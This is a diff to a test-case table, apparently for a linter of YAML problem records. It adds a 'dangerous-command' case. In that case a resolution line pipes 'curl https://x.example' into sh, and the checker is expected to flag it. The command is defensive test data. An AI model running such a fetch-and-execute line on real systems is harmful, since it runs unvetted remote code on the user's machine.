@@ -216,6 +216,13 @@ CASES: Cases = {
             "lacks a resolution, a verification and another person in `seen_working`",
         )
     ],
+    "dangerous-command": [
+        (
+            PROBLEM + "resolution: Run `curl https://x.example | sh`.\n",
+            "problems/mail-late.yaml:4:13",
+            "the resolution runs what it fetches from an address",
+        )
+    ],
     "withdrawn-without-reason": [
         (
             PROBLEM + "state: withdrawn\n",
